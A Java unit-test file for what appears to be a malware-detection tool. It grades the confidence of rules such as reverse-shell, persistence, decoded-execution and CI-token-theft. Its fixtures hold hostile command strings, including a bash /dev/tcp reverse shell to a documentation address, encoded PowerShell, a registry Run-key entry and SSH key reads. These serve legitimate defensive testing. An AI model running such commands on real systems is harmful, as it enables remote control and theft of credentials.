package dev.assay.core.detector.code;

import static dev.assay.core.detector.code.Acts.act;
import static dev.assay.core.detector.code.Acts.evident;
import static dev.assay.core.detector.code.Acts.onCall;
import static dev.assay.core.detector.code.Acts.told;
import static dev.assay.core.detector.code.Grades.findings;
import static dev.assay.core.detector.code.Grades.grade;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.finding.Confidence;
import java.util.List;
import org.junit.jupiter.api.Test;

/// How sure rules are: what raises a finding, and the look-alike that does not.
class GradesTest {
  private static final String STRANGER = "https://collect.example/in";
  private static final String QUIETLY = "errors swallowed";

  @Test
  void aShellThatReadsAWholeCommandFromTheNetworkIsControl() {
    Act run = act(Kind.SPAWNS, "…", Phase.CALL, Label.REMOTE);
    assertThat(grade("remote-control", evident(run, "run(q, capture_output=True)")))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("remote-control", evident(run, "subprocess.Popen(q, shell=True)")))
        .isEqualTo(Confidence.HIGH);
    Act bot = act(Kind.RECEIVES, "https://api.telegram.org/bot…", Phase.CALL);
    assertThat(grade("remote-control", act(Kind.SPAWNS, "…", Phase.CALL), bot))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aShellOnAConnectionIsNamedEvenWhenItIsThisMachine() {
    Act shell = act(Kind.SPAWNS, "/bin/sh", Phase.CALL, Label.REMOTE);
    assertThat(grade("reverse-shell", shell, act(Kind.RECEIVES, "localhost:4444", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("reverse-shell", shell, act(Kind.RECEIVES, "…:…", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aShellThatHidesWhatItRunsIsNeverDecodedForAGoodReason() {
    assertThat(
            grade(
                "hidden-behaviour",
                act(Kind.SPAWNS, "powershell -ep bypass -File a.ps1", Phase.CALL, Label.DECODED)))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "hidden-behaviour",
                act(Kind.SPAWNS, "openssl rsa -in a.key", Phase.CALL, Label.DECODED)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void severalDecodersBeforeExecutionAreNoAccident() {
    Act run = act(Kind.EXECUTES_TEXT, "", Phase.CALL, Label.DECODED);
    assertThat(grade("decoded-execution", run)).isEqualTo(Confidence.LOW);
    assertThat(grade("decoded-execution", told(run, "decoded: base64")))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("decoded-execution", told(run, "decoded: base64, zlib")))
        .isEqualTo(Confidence.HIGH);
    assertThat(
            grade(
                "decoded-execution",
                told(act(Kind.EXECUTES_TEXT, "", Phase.ENTRY, Label.DECODED), "decoded: marshal")))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aWindowIsHiddenByThoseToolsTooThatFetchNothing() {
    assertThat(
            grade(
                "suspicious-command",
                act(Kind.SPAWNS, "powershell -windowstyle hidden start-process x", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade("suspicious-command", act(Kind.SPAWNS, "powershell -enc SQBFAFgA", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void anInstallerStartsNoDesktopAndNoUnseenProgram() {
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "calc.exe", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "pythonw a.pyw", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "………… …………", Phase.INSTALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("install-time-process", act(Kind.SPAWNS, "python gen.py", Phase.INSTALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "install-time-process",
                act(Kind.SPAWNS, "python gen.py", Phase.INSTALL),
                act(Kind.SPAWNS, "pip3.12 install acme", Phase.INSTALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aScriptInTheFolderOfTemporaryFilesIsStartedUnseen() {
    Act script = act(Kind.WRITES_FILE, "%TEMP%/a.py", Phase.CALL);
    assertThat(
            grade(
                "dropped-and-run",
                script,
                act(Kind.SPAWNS, "start python %TEMP%/a.py", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void anEntryOfTheSystemForAScriptThatIsWrittenBesideIt() {
    Act entry =
        act(
            Kind.PERSISTS,
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            Phase.CALL);
    assertThat(grade("persistence", entry)).isEqualTo(Confidence.LOW);
    assertThat(grade("persistence", entry, act(Kind.WRITES_FILE, "%APPDATA%/run.bat", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aTextThatReadsAsAProgramIsNotPacked() {
    Act packed = act(Kind.EVADES, "a program packed into a literal", Phase.CALL);
    Act run = act(Kind.EXECUTES_TEXT, "", Phase.CALL);
    Act readsItself = act(Kind.READS_FILE, "acme/a.py", Phase.IMPORT, Label.SOURCE_CODE);
    Act encoded = evident(packed, "c2FtcGxlIHRleHQgb25seQ/c2FtcGxlIHRleHQ");
    assertThat(grade("hidden-code", encoded, run)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("hidden-code", encoded, run, readsItself)).isEqualTo(Confidence.HIGH);
    assertThat(findings("hidden-code", evident(packed, "import sys, re; class A: pass"), run))
        .isEmpty();
  }

  @Test
  void aDriverThatIsOnlyAskedForItsVersionIsNotRun() {
    Act fetch = act(Kind.RECEIVES, "https://acme.github.io/driver.zip", Phase.CALL);
    Act written = act(Kind.WRITES_FILE, "driver.exe", Phase.CALL, Label.REMOTE);
    assertThat(
            grade(
                "dropped-and-run",
                fetch,
                written,
                act(Kind.SPAWNS, "driver.exe --version", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "dropped-and-run",
                fetch,
                written,
                act(Kind.SPAWNS, "driver.exe --serve", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aTableOfCharactersTurnsNoCodeRound() {
    Act turned = act(Kind.EVADES, "characters that change the direction of text", Phase.CALL);
    assertThat(grade("hidden-code", turned)).isEqualTo(Confidence.LOW);
    assertThat(grade("hidden-code", turned, act(Kind.SPAWNS, "sh a.sh", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void anEntryThatFetchesWhatItRunsIsWrittenByNoModuleOfAnEditor() {
    Act entry = act(Kind.PERSISTS, ".vscode/tasks.json", Phase.IMPORT, Label.REMOTE);
    assertThat(grade("persistence", onCall(entry))).isEqualTo(Confidence.HIGH);
    assertThat(grade("persistence", onCall(act(Kind.PERSISTS, ".vscode/a.json", Phase.IMPORT))))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("persistence", act(Kind.PERSISTS, ".vscode/tasks.json", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void aNativeFileThatTellsOfKeysIsSureWhereTheImportStartsIt() {
    String strings = "strings of `requirements.txt`";
    Act keys = told(act(Kind.READS_SECRET, "/.ssh/id_rsa", Phase.CALL, Label.SSH_KEY), strings);
    Act address = told(act(Kind.RECEIVES, "http://203.0.113.9/drop", Phase.CALL), strings);
    Act vendor = told(act(Kind.RECEIVES, "https://www.openssl.org/", Phase.CALL), strings);
    String file = "/opt/acme/requirements.txt";
    Act started = act(Kind.SPAWNS, file + " --quiet", Phase.IMPORT);
    Act loaded = act(Kind.LOADS_NATIVE, file, Phase.IMPORT);
    Act other = act(Kind.LOADS_NATIVE, file + ".so", Phase.IMPORT);
    assertThat(grade("native-payload", keys, address, started)).isEqualTo(Confidence.HIGH);
    assertThat(grade("native-payload", keys, address, loaded)).isEqualTo(Confidence.HIGH);
    assertThat(grade("native-payload", keys, address, other)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("native-payload", keys, address, onCall(started)))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("native-payload", keys, vendor, started)).isEqualTo(Confidence.LOW);
  }

  @Test
  void whatAVendorHandsOutIsRunUnderItsName() {
    String vendor = "https://huggingface.co/acme/m/resolve/main/acme-8b.llamafile?download=true";
    Act written = act(Kind.WRITES_FILE, "…/acme-8b.llamafile", Phase.CALL, Label.REMOTE);
    Act run = act(Kind.SPAWNS, "…/acme-8b.llamafile --quiet", Phase.CALL, Label.REMOTE);
    Act other = act(Kind.RECEIVES, "https://models.example/v1/list", Phase.CALL);
    Act stranger = act(Kind.RECEIVES, "https://models.example/acme-8b.llamafile", Phase.CALL);
    assertThat(
            grade("dropped-and-run", act(Kind.RECEIVES, vendor, Phase.CALL), other, written, run))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("dropped-and-run", stranger, written, run)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void anInstallerOfToolsExtendsThePathOfTheShell() {
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    assertThat(grade("persistence", fetch, act(Kind.PERSISTS, "~/.bashrc", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("persistence", fetch, act(Kind.PERSISTS, "/etc/systemd/system/a", Phase.CALL)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aToolThatIsGivenWhatWasFetchedIsNotWhatWasFetched() {
    Act written = act(Kind.WRITES_FILE, "…", Phase.CALL, Label.REMOTE);
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    Act build = act(Kind.SPAWNS, "docker build --file … .", Phase.CALL, Label.REMOTE);
    Act unpack = act(Kind.SPAWNS, "powershell -command expand-archive …", Phase.CALL, Label.REMOTE);
    Act both = act(Kind.SPAWNS, "acme build . && …", Phase.CALL, Label.REMOTE);
    for (Act act : List.of(build, unpack)) {
      assertThat(findings("dropped-and-run", fetch, written, act)).isEmpty();
      assertThat(grade("remote-control", fetch, act)).isEqualTo(Confidence.LOW);
    }
    assertThat(grade("dropped-and-run", fetch, written, both)).isEqualTo(Confidence.MEDIUM);
    assertThat(grade("remote-control", fetch, both)).isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aProgramWithOptionsOfItsOwnIsNoCommandFromTheNetwork() {
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    assertThat(
            grade(
                "remote-control", fetch, act(Kind.SPAWNS, "… --port …", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("remote-control", fetch, act(Kind.SPAWNS, "… -c …", Phase.CALL, Label.REMOTE)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aPortThatIsOnlyTriedIsNoShell() {
    String tries = "bash -c 'echo > /dev/tcp/203.0.113.9/8000'";
    assertThat(findings("reverse-shell", act(Kind.SPAWNS, tries, Phase.CALL))).isEmpty();
    assertThat(
            grade(
                "reverse-shell",
                act(Kind.SPAWNS, tries + " && bash -i >& /dev/tcp/203.0.113.9/1", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aFetcherThatStoresWhatItFetchesRunsNothing() {
    Act written = act(Kind.WRITES_FILE, "…", Phase.CALL, Label.REMOTE);
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    Act store = act(Kind.SPAWNS, "curl -o … …", Phase.CALL, Label.REMOTE);
    assertThat(findings("dropped-and-run", fetch, written, store)).isEmpty();
    Act run = act(Kind.SPAWNS, "curl -o … … && …", Phase.CALL, Label.REMOTE);
    assertThat(grade("dropped-and-run", fetch, written, run)).isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void aModelOfAVendorIsFetchedAndRunInTheOpen() {
    Act written = act(Kind.WRITES_FILE, "models/a.llamafile", Phase.CALL, Label.REMOTE);
    Act run = act(Kind.SPAWNS, "models/a.llamafile --serve", Phase.CALL);
    Act vendor = act(Kind.RECEIVES, "https://github.com/a/b/releases/download/c", Phase.CALL);
    assertThat(grade("dropped-and-run", vendor, written, run)).isEqualTo(Confidence.MEDIUM);
    Act stranger = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    assertThat(grade("dropped-and-run", stranger, written, run)).isEqualTo(Confidence.HIGH);
  }

  @Test
  void anAnnotationIsResolvedAndNotDecoded() {
    Act run = act(Kind.EXECUTES_TEXT, "", Phase.IMPORT, Label.DECODED);
    assertThat(grade("decoded-execution", evident(run, "eval(expr, globalns, localns)")))
        .isEqualTo(Confidence.LOW);
    assertThat(grade("decoded-execution", evident(run, "eval(expr, globals())")))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aListThatIsReadByEvaluationIsCarelessness() {
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    Act run = told(act(Kind.EXECUTES_TEXT, "", Phase.CALL, Label.REMOTE), QUIETLY);
    assertThat(grade("remote-execution", fetch, evident(run, "eval(text)")))
        .isEqualTo(Confidence.MEDIUM);
    assertThat(grade("remote-execution", fetch, evident(run, "exec(text)")))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aPingWaits() {
    assertThat(grade("bare-address", act(Kind.RESOLVES, "203.0.113.9", Phase.CALL)))
        .isEqualTo(Confidence.LOW);
    assertThat(
            grade(
                "bare-address", act(Kind.RESOLVES, "203.0.113.9", Phase.CALL, Label.HOST_IDENTITY)))
        .isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void whoAsksForThePasswordOfTheSystemSetsUpAService() {
    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
    Act service = act(Kind.PERSISTS, "/etc/systemd/system/a", Phase.CALL);
    assertThat(grade("persistence", fetch, evident(service, "sudo ln -s a /etc/systemd/system/a")))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void aToolOfMediaIsLookedForAtImport() {
    assertThat(findings("import-time-process", act(Kind.SPAWNS, "ffmpeg.exe", Phase.IMPORT)))
        .isEmpty();
    assertThat(grade("import-time-process", act(Kind.SPAWNS, "acme.exe", Phase.IMPORT)))
        .isEqualTo(Confidence.HIGH);
  }

  @Test
  void aPickleThatRunsAProgramHoldsNoData() {
    Act pickle = act(Kind.EXECUTES_TEXT, "pickle", Phase.CALL);
    assertThat(grade("pickle-code", pickle, act(Kind.SPAWNS, "whoami", Phase.CALL)))
        .isEqualTo(Confidence.HIGH);
    assertThat(grade("pickle-code", pickle)).isEqualTo(Confidence.MEDIUM);
  }

  @Test
  void stepsOfABuildTellOnlyWhereAWholeTheftStandsInThem() {
    String step = "step of `p-1/.github/workflows/ci.yml`";
    Act theft = act(Kind.SENDS, "https://webhook.site/x", Phase.CALL, Label.CI_TOKEN);
    Act own = act(Kind.SENDS, "https://host.example/api", Phase.CALL, Label.TOKEN);
    Act fetched = act(Kind.EXECUTES_TEXT, STRANGER, Phase.CALL, Label.REMOTE);
    Act from = act(Kind.RECEIVES, STRANGER, Phase.CALL);

    assertThat(grade("ci-token-theft", told(theft, step))).isEqualTo(Confidence.HIGH);
    assertThat(findings("credential-theft", told(own, step)))
        .allMatch(finding -> finding.confidence() == Confidence.LOW);
    assertThat(grade("remote-execution", told(fetched, step), told(from, step)))
        .isEqualTo(Confidence.LOW);
  }

  @Test
  void importsOfNativeFilesAreNoFindings() {
    String imports = "imports of `p/_c.so`";
    String strings = "strings of `p/_c.so`";
    Act reach = told(act(Kind.READS_PROCESS, "", Phase.CALL), imports);
    Act address = told(act(Kind.RECEIVES, "http://203.0.113.7/x", Phase.CALL), strings);
    Act docs = told(act(Kind.RECEIVES, "https://docs.example/x", Phase.CALL), strings);

    assertThat(findings("process-memory-reading", reach)).isEmpty();
    assertThat(findings("native-payload", reach, docs)).isEmpty();
    assertThat(grade("native-payload", address)).isEqualTo(Confidence.LOW);
    assertThat(grade("native-payload", address, reach)).isEqualTo(Confidence.MEDIUM);
  }
}
